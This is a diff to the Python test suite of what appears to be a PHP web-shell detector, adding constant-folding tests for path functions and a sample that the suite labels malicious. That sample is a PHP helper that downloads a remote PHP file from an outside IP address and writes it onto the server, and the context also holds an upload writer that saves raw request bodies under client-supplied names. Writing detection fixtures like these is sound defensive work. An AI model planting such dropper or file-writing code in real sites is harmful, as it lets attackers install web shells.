@@ -7,6 +7,7 @@ import pytest
 from webhunt.detect.document import Document
 from webhunt.detect.semantic import SemanticLayer
 from webhunt.detect.semantic.layer import PhpAnalyses
+from webhunt.detect.semantic.transforms import Budget, fold_call
 from webhunt.model import FileContext, Language, Layer, Reason, Verdict
 
 CODE, CMD, DYN, INC, WRITE, UPLOAD, HIDDEN = (
@@ -263,6 +264,14 @@ MALICIOUS = [
         "request body parsed by hand, written under the name it carries",
         "<?php $raw = file_get_contents('php://input'); preg_match('/filename=\"([^\"]+)\"/', $raw, $m);"
         " $p = explode(\"\\r\\n\\r\\n\", $raw, 2); $fp = fopen(__DIR__ . '/' . $m[1], 'wb'); fwrite($fp, $p[1]);",
+        WRITE,
+    ),
+    (
+        "download helper saving under the URL's own name (a default parameter, pathinfo)",
+        "<?php function fetch($url, $file = '') { $file = empty($file) ? pathinfo($url, PATHINFO_BASENAME) : $file;"
+        " $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url); curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);"
+        " file_put_contents($file, curl_exec($ch)); return $file; }"
+        " echo fetch('http://203.0.113.9/themes/t/temp1.php');",
         WRITE,
     ),
     (
@@ -526,3 +535,19 @@ def test_a_field_is_read_as_this_method_just_wrote_it() -> None:
         " file_put_contents($this->full, $data); } } (new U())->up($_GET['b']);"
     )
     assert ids(analyse(code)) == {UPLOAD}
+
+
+@pytest.mark.parametrize(
+    ("name", "args", "expected"),
+    [
+        ("pathinfo", [b"http://x.example/a/b/shell.php?x=1", 2], b"shell.php"),
+        ("pathinfo", [b"/var/www/a/shell.php", b"PATHINFO_EXTENSION"], b"php"),
+        ("pathinfo", [b"/var/www/a/shell.php", 8], b"shell"),
+        ("pathinfo", [b"/var/www/a/shell.php", 1], b"/var/www/a"),
+        ("basename", [b"/var/www/a/shell.php"], b"shell.php"),
+        ("empty", [b""], 1),
+        ("empty", [b"x"], 0),
+    ],
+)
+def test_path_functions_fold_on_constants(name: str, args: list[bytes | int], expected: bytes | int) -> None:
+    assert fold_call(name, args, Budget()) == expected
